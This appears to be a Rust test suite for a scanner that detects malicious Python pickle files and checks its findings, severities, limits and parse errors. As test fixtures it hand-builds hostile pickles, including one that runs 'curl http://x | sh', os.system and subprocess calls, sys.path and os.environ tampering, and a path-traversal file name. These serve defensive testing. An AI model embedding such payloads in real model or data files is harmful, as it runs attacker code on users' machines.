//! Behaviour of the scanner on hand-assembled pickles: what is flagged and how, what is
//! malformed, what limits do, and what stays quiet.

#![allow(clippy::unwrap_used)] // a failed unwrap is a failed test

mod common;

use common::*;
use rampart_core::{Limits, Severity};
use rampart_pickle::{PickleConfig, PickleScanner, StreamKind, looks_like_pickle};

#[test]
fn evidence_renders_the_resolved_call() {
    let findings = findings(b"cos\nsystem\n(S'curl http://x | sh'\ntR.");
    let call = only(&findings, "pickle/disallowed-call");
    assert_eq!(call.severity, Severity::Critical);
    assert_eq!(
        call.evidence.as_deref(),
        Some("os.system('curl http://x | sh')")
    );
    assert_eq!(call.location.offset, Some(35));
    assert!(
        call.message.contains("REDUCE at byte 35"),
        "{}",
        call.message
    );
}

#[test]
fn long_and_binary_literals_are_truncated_and_escaped_in_evidence() {
    let long = "A".repeat(500);
    let data = cat(&[
        b"\x80\x04",
        &stack_global("os", "system"),
        &sbu("\x01\n'"),
        b"C\x02\xff\x00",
        &[0x86],
        b"R.",
    ]);
    let evidence = only(&findings(&data), "pickle/disallowed-call")
        .evidence
        .clone()
        .unwrap();
    assert_eq!(evidence, r"os.system('\u0001\n\'', b'\xff\x00')");
    let data = cat(&[b"cos\nsystem\n(V", long.as_bytes(), b"\ntR."]);
    let evidence = only(&findings(&data), "pickle/disallowed-call")
        .evidence
        .clone()
        .unwrap();
    assert!(
        evidence.len() < 200 && evidence.ends_with("...')"),
        "{evidence}"
    );
}

#[test]
fn a_denied_global_that_is_only_imported_is_critical() {
    let data = cat(&[
        b"\x80\x04",
        &stack_global("subprocess", "check_output"),
        b".",
    ]);
    let finding = only(&findings(&data), "pickle/disallowed-import").clone();
    assert_eq!(finding.severity, Severity::Critical);
    assert_eq!(finding.evidence.as_deref(), Some("subprocess.check_output"));
}

#[test]
fn unlisted_globals_rank_by_use() {
    // Imported only: medium.
    let imported = findings(&cat(&[
        b"\x80\x04",
        &stack_global("mylib.util", "helper"),
        b".",
    ]));
    assert_eq!(
        only(&imported, "pickle/disallowed-import").severity,
        Severity::Medium
    );
    // Called: high.
    let called = findings(&cat(&[
        b"\x80\x04",
        &stack_global("mylib.util", "helper"),
        b")R.",
    ]));
    assert_eq!(
        only(&called, "pickle/disallowed-call").severity,
        Severity::High
    );
    assert!(
        called
            .iter()
            .all(|f| f.rule.id != "pickle/disallowed-import")
    );
    // A user's class rebuilt without its constructor (whole-model torch.save): medium.
    let model = findings(&cat(&[
        b"\x80\x02",
        &global("__main__", "Net"),
        b")\x81}X\x01\x00\x00\x00ak\x01sb.",
    ]));
    let finding = only(&model, "pickle/disallowed-import");
    assert_eq!(finding.severity, Severity::Medium);
    assert!(
        finding
            .message
            .contains("instantiates `__main__.Net` without running its constructor")
    );
    // Functions benign pickles only reference, and classes they only instantiate, are
    // flagged when called.
    let reference = findings(&cat(&[
        b"\x80\x04",
        &stack_global("sklearn.datasets._base", "load_files"),
        &sbu("/"),
        b"\x85R.",
    ]));
    assert_eq!(
        only(&reference, "pickle/disallowed-call").severity,
        Severity::High
    );
    let constructor = findings(&cat(&[
        b"\x80\x04",
        &stack_global("torch.optim.lr_scheduler", "LambdaLR"),
        b"NN\x86R.",
    ]));
    assert_eq!(
        only(&constructor, "pickle/disallowed-call").severity,
        Severity::High
    );
    // Referencing them is fine.
    assert!(
        findings(&cat(&[
            b"\x80\x04",
            &stack_global("sklearn.metrics._classification", "accuracy_score"),
            b"."
        ]))
        .is_empty()
    );
}

#[test]
fn config_allows_team_classes_and_denies_more() {
    let model = cat(&[b"\x80\x02", &global("mypkg.models", "Net"), b")\x81}b."]);
    let allow = PickleConfig {
        allow: vec!["mypkg.*".into()],
        deny: vec![],
    };
    assert!(scan_with(&allow, &Limits::default(), &model).1.is_empty());
    let deny = PickleConfig {
        allow: vec![],
        deny: vec!["collections.OrderedDict".into()],
    };
    let (_, found) = scan_with(&deny, &Limits::default(), b"ccollections\nOrderedDict\n)R.");
    assert_eq!(
        only(&found, "pickle/disallowed-call").severity,
        Severity::Critical
    );
    let bad = PickleConfig {
        allow: vec!["os".into()],
        deny: vec![],
    };
    let error = PickleScanner::new(&bad).unwrap_err().to_string();
    assert!(error.contains("`allow` entry `os`"), "{error}");
}

#[test]
fn resolvers_are_judged_by_what_they_resolve() {
    let bad = cat(&[
        b"\x80\x04",
        &stack_global("numpy.core", "_ufunc_reconstruct"),
        &sbu("os"),
        &sbu("system"),
        b"\x86R",
        &sbu("id"),
        b"\x85R.",
    ]);
    let found = findings(&bad);
    let call = only(&found, "pickle/disallowed-call");
    assert_eq!(call.severity, Severity::Critical);
    assert_eq!(
        call.evidence.as_deref(),
        Some("numpy.core._ufunc_reconstruct('os', 'system')('id')")
    );
    let ufunc = cat(&[
        b"\x80\x04",
        &stack_global("numpy._core", "_ufunc_reconstruct"),
        &sbu("numpy"),
        &sbu("log1p"),
        b"\x86R.",
    ]);
    assert!(findings(&ufunc).is_empty());
    let computed = cat(&[
        b"\x80\x04",
        &stack_global("numpy.core", "_ufunc_reconstruct"),
        &stack_global("builtins", "str"),
        &sbu("os"),
        b"\x85R",
        &sbu("system"),
        b"\x86R.",
    ]);
    assert_eq!(
        only(&findings(&computed), "pickle/dynamic-global").severity,
        Severity::Critical
    );
}

#[test]
fn getattr_of_a_class_is_judged_as_that_attribute() {
    // How Python pickles the bound class method of a tz-aware pandas column.
    let zoneinfo = cat(&[
        b"\x80\x04",
        &stack_global("builtins", "getattr"),
        &stack_global("zoneinfo", "ZoneInfo"),
        &sbu("_unpickle"),
        b"\x86R",
        &sbu("Europe/Paris"),
        b"K\x01\x86R.",
    ]);
    assert!(
        findings(&zoneinfo).is_empty(),
        "{}",
        dump(&findings(&zoneinfo))
    );
    let subclasses =
        cat(&[b"c__builtin__\ngetattr\n(c__builtin__\nobject\nS'__subclasses__'\ntR)R."]);
    let found = findings(&subclasses);
    assert!(
        only(&found, "pickle/dunder-access")
            .message
            .contains("`builtins.object.__subclasses__`")
    );
    let method = findings(b"c__builtin__\ngetattr\n(csubprocess\nPopen\nS'communicate'\ntR.");
    assert_eq!(
        only(&method, "pickle/disallowed-import").severity,
        Severity::Critical
    );
}

#[test]
fn helpers_that_run_their_arguments_pass_the_judgement_on() {
    let reconstruct =
        |class: &[u8], base: &[u8]| cat(&[b"ccopy_reg\n_reconstructor\n(", class, base, b"NtR."]);
    let user = findings(&reconstruct(
        &global("mylib", "Model"),
        &global("__builtin__", "object"),
    ));
    assert_eq!(
        only(&user, "pickle/disallowed-import").severity,
        Severity::Medium
    );
    let popen = findings(&reconstruct(
        &global("subprocess", "Popen"),
        &global("__builtin__", "object"),
    ));
    assert_eq!(
        only(&popen, "pickle/disallowed-call").severity,
        Severity::Critical
    );
    // A base other than object gets its __init__ called.
    let base = findings(&reconstruct(
        &global("collections", "OrderedDict"),
        &global("mylib", "Base"),
    ));
    assert_eq!(
        only(&base, "pickle/disallowed-call").severity,
        Severity::High
    );
    let factory = findings(b"ccollections\ndefaultdict\n(cmylib\nfactory\ntR.");
    assert_eq!(
        only(&factory, "pickle/disallowed-call").severity,
        Severity::High
    );
    let ctor = cat(&[
        b"\x80\x04",
        &stack_global("numpy.random._pickle", "__randomstate_ctor"),
        &sbu("MT19937"),
        &stack_global("os", "system"),
        b"\x86R.",
    ]);
    assert_eq!(
        only(&findings(&ctor), "pickle/disallowed-call").severity,
        Severity::Critical
    );
}

#[test]
fn build_and_container_tricks_are_hijacks() {
    let slot_state =
        b"\x80\x02ccollections\nOrderedDict\n)RN}X\t\x00\x00\x00__class__cmylib\nEvil\ns\x86b.";
    let found = findings(slot_state);
    assert!(
        only(&found, "pickle/build-hijack")
            .message
            .contains("`__class__`")
    );
    let setitem = findings(b"\x80\x02cos\nenviron\nX\x02\x00\x00\x00LDX\x01\x00\x00\x00xs.");
    assert!(
        only(&setitem, "pickle/build-hijack")
            .message
            .contains("mutates the module-level object `os.environ`")
    );
    let append = findings(b"\x80\x02csys\npath\nX\x05\x00\x00\x00/evila.");
    only(&append, "pickle/build-hijack");
}

#[test]
fn nested_pickles_are_scanned_in_place() {
    let inner = b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x02id\x85R.";
    let data = cat(&[
        b"\x80\x04",
        &stack_global("pickle", "loads"),
        b"C",
        &[inner.len() as u8],
        inner,
        b"\x85R.",
    ]);
    let found = findings(&data);
    only(&found, "pickle/nested-pickle");
    let inner_call = found
        .iter()
        .find(|f| f.evidence.as_deref() == Some("os.system('id')"))
        .unwrap_or_else(|| panic!("inner call not reported:\n{}", dump(&found)));
    // The BINBYTES payload starts at 2 + 16 + 2 = 20; the inner REDUCE is at 20 in it.
    assert_eq!(inner_call.location.offset, Some(20 + 20));
    // pickle.load(io.BytesIO(b'...')).
    let data = cat(&[
        b"\x80\x04",
        &stack_global("pickle", "load"),
        &stack_global("io", "BytesIO"),
        b"C",
        &[inner.len() as u8],
        inner,
        b"\x85R\x85R.",
    ]);
    assert!(
        findings(&data)
            .iter()
            .any(|f| f.evidence.as_deref() == Some("os.system('id')"))
    );
}

#[test]
fn nesting_is_bounded() {
    let mut data = b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x02id\x85R.".to_vec();
    for _ in 0..4 {
        data = cat(&[
            b"\x80\x04",
            &stack_global("pickle", "loads"),
            b"B",
            &(data.len() as u32).to_le_bytes(),
            &data,
            b"\x85R.",
        ]);
    }
    let limits = Limits {
        max_pickles_per_stream: 2,
        ..Limits::default()
    };
    let (_, found) = scan_with(&PickleConfig::default(), &limits, &data);
    assert!(
        found
            .iter()
            .any(|f| f.rule.id == "scan/limit-exceeded" && f.message.contains("nested")),
        "{}",
        dump(&found)
    );
}

#[test]
fn repeated_findings_are_counted_once() {
    let data = b"cos\nsystem\np0\n(S'a'\ntR0g0\n(S'b'\ntR0g0\n(S'c'\ntR.";
    let found = findings(data);
    let call = only(&found, "pickle/disallowed-call");
    assert!(
        call.message.ends_with("(and 2 more times)"),
        "{}",
        call.message
    );
}

#[test]
fn malformed_streams_are_reported_precisely() {
    let cases: &[(&[u8], &str, u64)] = &[
        (b"", "empty", 0),
        (b"\xff", "unknown opcode 0xff at byte 0", 0),
        (
            b"\x80\x04X\x10\x00\x00\x00ab",
            "needs 16 bytes of argument but only 2 remain",
            2,
        ),
        (b"NR.", "stack underflow: REDUCE at byte 1", 1),
        (b"Nh\x05.", "memo key 5, which was never stored", 1),
        (b"Nt.", "TUPLE at byte 1 needs a MARK", 1),
        (b"\x80\x07N.", "protocol 7", 0),
        (b"N", "without a STOP", 1),
        (b"N1.", "POP_MARK at byte 1 needs a MARK", 1),
        (b"Nd.", "needs a MARK", 1),
        (b"(NNNd.", "odd number of items", 4),
        (b"I1x\n.", "expects an integer", 0),
        (b"S'abc\n.", "expects a quoted string", 0),
        (b"cos\nsys", "without its terminating newline", 0),
        (
            b"\x80\x04\x95\xff\x00\x00\x00\x00\x00\x00\x00N.",
            "FRAME at byte 2 declares 255 bytes but only 2 remain",
            2,
        ),
        (
            b"\x80\x04C\x01a\x8c\x01b\x93.",
            "STACK_GLOBAL at byte 8 needs two strings but got a bytes object and a str",
            8,
        ),
        (b"K\x01)R.", "calls an int, which is not callable", 3),
    ];
    for (data, message, offset) in cases {
        let found = findings(data);
        let malformed = only(&found, "scan/malformed");
        assert!(
            malformed.message.contains(message),
            "{data:?}: {}",
            malformed.message
        );
        assert_eq!(
            malformed.location.offset,
            Some(*offset),
            "{data:?}: {}",
            malformed.message
        );
    }
}

#[test]
fn findings_before_a_parse_error_are_kept() {
    let found = findings(b"cos\nsystem\n(S'id'\ntR\xff");
    assert_eq!(
        only(&found, "pickle/disallowed-call").severity,
        Severity::Critical
    );
    only(&found, "scan/malformed");
}

#[test]
fn limits_stop_the_machine_with_a_finding() {
    let mut nones = vec![b'('];
    nones.extend(std::iter::repeat_n(b'N', 5000));
    nones.extend_from_slice(b"l.");
    let opcodes = Limits {
        max_pickle_opcodes: 100,
        ..Limits::default()
    };
    let (_, found) = scan_with(&PickleConfig::default(), &opcodes, &nones);
    assert!(
        only(&found, "scan/limit-exceeded")
            .message
            .contains("max_pickle_opcodes = 100")
    );
    let memory = Limits {
        max_pickle_memory_entries: 2000,
        ..Limits::default()
    };
    let (_, found) = scan_with(&PickleConfig::default(), &memory, &nones);
    assert!(
        only(&found, "scan/limit-exceeded")
            .message
            .contains("max_pickle_memory_entries = 2000")
    );
    // Literal items of a long list are counted, not kept (the pickler appends in batches
    // of 1000).
    let floats = pickle(&Lit::List(vec![Lit::Float(1.0); 20_000]), 2);
    let (_, found) = scan_with(&PickleConfig::default(), &memory, &floats);
    assert!(found.is_empty(), "{}", dump(&found));
}

#[test]
fn streams_of_pickles_are_all_scanned_up_to_the_limit() {
    let benign = pickle(&Lit::Int(1), 2);
    let evil = b"cos\nsystem\n(S'id'\ntR.";
    let data = cat(&[&benign, &benign, evil]);
    let (info, found) = scan(&data);
    assert_eq!((info.pickles, info.end), (3, data.len()));
    only(&found, "pickle/disallowed-call");
    let limits = Limits {
        max_pickles_per_stream: 2,
        ..Limits::default()
    };
    let (info, found) = scan_with(&PickleConfig::default(), &limits, &data);
    assert_eq!(info.pickles, 2);
    only(&found, "scan/limit-exceeded");
}

#[test]
fn trailing_non_pickle_bytes_are_left_to_the_engine() {
    let benign = pickle(&Lit::Str("weights".into()), 4);
    for tail in [
        &b"PK\x03\x04\x14\x00\x00\x00"[..],
        b"\n",
        b"(c) 2024 Example Corp\n",
        b"\x00\x00\x00\x00",
    ] {
        let data = cat(&[&benign, tail]);
        let (info, found) = scan(&data);
        assert_eq!((info.pickles, info.end), (1, benign.len()), "{tail:?}");
        assert!(found.is_empty(), "{tail:?}:\n{}", dump(&found));
    }
}

#[test]
fn legacy_torch_streams_stop_after_five_pickles() {
    let magic = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19.";
    let small = pickle(&Lit::Int(1001), 2);
    let data = cat(&[
        magic,
        &small,
        &small,
        &small,
        &small,
        b"raw storage bytes \x80\x02cos\nsystem\n",
    ]);
    let (info, found) = scan(&data);
    assert_eq!((info.kind, info.pickles), (StreamKind::TorchLegacy, 5));
    assert!(found.is_empty(), "{}", dump(&found));
    let (info, found) = scan(&cat(&[magic, &small]));
    assert_eq!(info.kind, StreamKind::TorchLegacy);
    assert!(
        only(&found, "scan/malformed")
            .message
            .contains("ends after 2 of its 5 pickles")
    );
    // Protocol 0 spelling of the magic number.
    let (info, _) = scan(&cat(&[b"L119547037146038801333356L\n.", &small]));
    assert_eq!(info.kind, StreamKind::TorchLegacy);
}

#[test]
fn extension_opcodes_are_flagged() {
    for data in [
        &b"\x80\x02\x82\x01."[..],
        b"\x80\x02\x83\x01\x02.",
        b"\x80\x02\x84\x01\x02\x03\x04.",
    ] {
        let found = findings(data);
        assert_eq!(
            only(&found, "pickle/extension-registry").severity,
            Severity::High
        );
    }
}

#[test]
fn joblib_inline_arrays_are_skipped_exactly() {
    // NumpyArrayWrapper state with an explicit shape/dtype, then 1 padding byte count,
    // the padding and 3 int32 values; then a malicious tail that must still be read.
    let wrapper = |shape: &[u8], code: &str, payload: &[u8]| {
        cat(&[
            b"\x80\x04",
            &stack_global("joblib.numpy_pickle", "NumpyArrayWrapper"),
            b")\x81}(",
            &sbu("shape"),
            shape,
            &sbu("dtype"),
            &stack_global("numpy", "dtype"),
            &sbu(code),
            b"\x89\x88\x87R",
            &sbu("numpy_array_alignment_bytes"),
            b"K\x10ub",
            payload,
            b"0",
            &stack_global("os", "system"),
            &sbu("id"),
            b"\x85R.",
        ])
    };
    let good = wrapper(
        b"K\x03\x85",
        "i4",
        b"\x02\xff\xff\x01\x00\x00\x00\x02\x00\x00\x00\x03\x00\x00\x00",
    );
    let (info, found) = scan(&good);
    assert_eq!((info.kind, info.end), (StreamKind::Joblib, good.len()));
    assert_eq!(
        only(&found, "pickle/disallowed-call").evidence.as_deref(),
        Some("os.system('id')")
    );
    let huge = wrapper(b"J\xff\xff\xff\x7f\x85", "f8", b"\x00");
    assert!(
        only(&findings(&huge), "scan/malformed")
            .message
            .contains("joblib array")
    );
    let odd_dtype = wrapper(b"K\x03\x85", "x9", b"\x00");
    assert!(
        only(&findings(&odd_dtype), "scan/malformed")
            .message
            .contains("unsupported dtype code")
    );
}

#[test]
fn joblib_side_files_must_stay_beside_the_pickle() {
    let side = |name: &str| {
        cat(&[
            b"\x80\x02",
            &global("joblib.numpy_pickle", "NDArrayWrapper"),
            b")\x81}(",
            &sbu("filename"),
            &sbu(name),
            &sbu("subclass"),
            &global("numpy", "ndarray"),
            b"ub.",
        ])
    };
    assert!(findings(&side("model.pkl_01.npy")).is_empty());
    let escaping = findings(&side("../../tmp/evil.npy"));
    assert!(
        only(&escaping, "pickle/disallowed-call")
            .message
            .contains("outside the pickle's directory")
    );
}

#[test]
fn protocol_zero_text_forms_parse() {
    let data = b"(dp0\nS'a\\'b\\x41'\np1\nI01\nsS'n'\np2\nL123456789012345678901234567890L\nsV\\u00e9t\\u00e9\np3\nF1.5e3\nsI00\nI-7\ns(I1\nI2\ntp4\n(lp5\nI0x10\naa0g4\n.";
    let (info, found) = scan(data);
    assert!(found.is_empty(), "{}", dump(&found));
    assert_eq!(info.end, data.len());
}

#[test]
fn protocol_five_buffers_parse() {
    let data = b"\x80\x05\x96\x03\x00\x00\x00\x00\x00\x00\x00abc\x97\x98\x86.";
    let (info, found) = scan(data);
    assert!(found.is_empty(), "{}", dump(&found));
    assert_eq!(info.protocol, Some(5));
}

#[test]
fn pop_on_an_empty_frame_pops_the_mark() {
    assert!(findings(b"(0N.").is_empty());
    assert!(findings(b"N(1.").is_empty());
}

#[test]
fn sniffing_accepts_pickles_and_rejects_text() {
    for pickle in [
        &b"\x80\x02}q\x00."[..],
        b"\x80\x05",
        b"(dp0\nS'a'\np1\nI1\ns.",
        b"(dp0\n",
        b"cos\nsystem\n",
        b"]q\x00(K\x01K\x02e.",
        b"}q\x00(X\x01\x00\x00\x00aK\x01u.",
        b"(lp0\nI1\na.",
        b"ccollections\nOrderedDict\nq\x00)Rq\x01.",
        b"c__builtin__\neval\n(S'1'\ntR.",
    ] {
        assert!(looks_like_pickle(pickle), "{pickle:?}");
    }
    for text in [
        &b""[..],
        b"(c) 2024 Example Corp. All rights reserved.\n",
        b"name,age\nalice,30\n",
        b"{\"a\": 1}",
        b"# Title\n\nSome text",
        b"I love pickles\n",
        b"Version 1.0\nAuthor: me\n",
        b"import os\nos.system('id')\n",
        b"\x80\x01abc",
        b"\x80\x06",
        b"\x89PNG\r\n\x1a\n",
        b"PK\x03\x04",
        b"c",
        // An int64 tensor storage holding 640 starts with PROTO 2.
        b"\x80\x02\x00\x00\x00\x00\x00\x00",
        b"\x80\x04\xff\xfe",
    ] {
        assert!(!looks_like_pickle(text), "{text:?}");
    }
    // Raw weights whose bytes happen to spell opcodes, then an INST whose "text line" is
    // binary running past the sniffed prefix.
    let mut weights = vec![b'N'; 33];
    weights.push(b'i');
    weights.extend((0..4096u32).map(|i| (i % 31) as u8));
    assert!(!looks_like_pickle(&weights[..4096]));
    // The same cut-off line holding text is a plausible long protocol-0 pickle.
    let mut long_text = b"(dp0\nVa".to_vec();
    long_text.resize(4096, b'x');
    assert!(looks_like_pickle(&long_text));
}

/// A 100 MB pickle of literals must scan in well under a second (release build):
/// `cargo test -p rampart-pickle --release --test scanner -- --ignored --nocapture`.
#[test]
#[ignore]
fn large_literal_pickles_scan_fast() {
    const TARGET: usize = 100 << 20;
    let mut floats = b"\x80\x04]".to_vec();
    while floats.len() < TARGET {
        floats.push(b'(');
        for i in 0..1000 {
            floats.push(b'G');
            floats.extend_from_slice(&f64::from(i).to_be_bytes());
        }
        floats.push(b'e');
    }
    floats.push(b'.');
    let mut blobs = b"\x80\x04]".to_vec();
    let chunk = vec![7u8; 1 << 20];
    while blobs.len() < TARGET {
        blobs.extend_from_slice(b"(");
        for _ in 0..8 {
            blobs.push(0x8e);
            blobs.extend_from_slice(&(chunk.len() as u64).to_le_bytes());
            blobs.extend_from_slice(&chunk);
            blobs.extend_from_slice(&sbu("layer.weight"));
            blobs.push(0x94);
        }
        blobs.push(b'e');
    }
    blobs.push(b'.');
    // A vocabulary: {token: id} with every token memoized, as protocol 4 writes it.
    let mut vocab = b"\x80\x04}\x94".to_vec();
    let mut id = 0u32;
    while vocab.len() < TARGET {
        vocab.push(b'(');
        for _ in 0..1000 {
            vocab.extend_from_slice(&sbu(&format!("token_{id:024}")));
            vocab.push(0x94);
            vocab.push(b'J');
            vocab.extend_from_slice(&id.to_le_bytes());
            id += 1;
        }
        vocab.push(b'u');
    }
    vocab.push(b'.');
    for (name, data) in [("floats", &floats), ("blobs", &blobs), ("vocab", &vocab)] {
        let start = std::time::Instant::now();
        let (info, found) = scan(data);
        let elapsed = start.elapsed();
        println!("{name}: {} MB in {elapsed:?}", data.len() >> 20);
        assert!(found.is_empty(), "{}", dump(&found));
        assert_eq!(info.end, data.len());
        assert!(elapsed.as_millis() < 1000, "{name} took {elapsed:?}");
    }
}

/// A slice scanned at a base offset (the pickle after a NumPy header, a record inside a
/// legacy torch member) reports the same byte numbers in its messages as in its locations.
#[test]
fn messages_and_locations_agree_on_offsets_of_sliced_scans() {
    let scanner = PickleScanner::new(&PickleConfig::default()).unwrap();
    let mut findings = Vec::new();
    let location = rampart_core::Location::file("x.npy").at(128);
    scanner.scan(
        b"cos\nsystem\n(S'id'\ntR.",
        &location,
        &rampart_core::Limits::default(),
        &mut findings,
    );
    let call = findings
        .iter()
        .find(|f| f.rule.id == "pickle/disallowed-call")
        .unwrap();
    assert_eq!(call.location.offset, Some(128 + 19));
    assert!(call.message.contains("byte 147"), "{}", call.message);
}
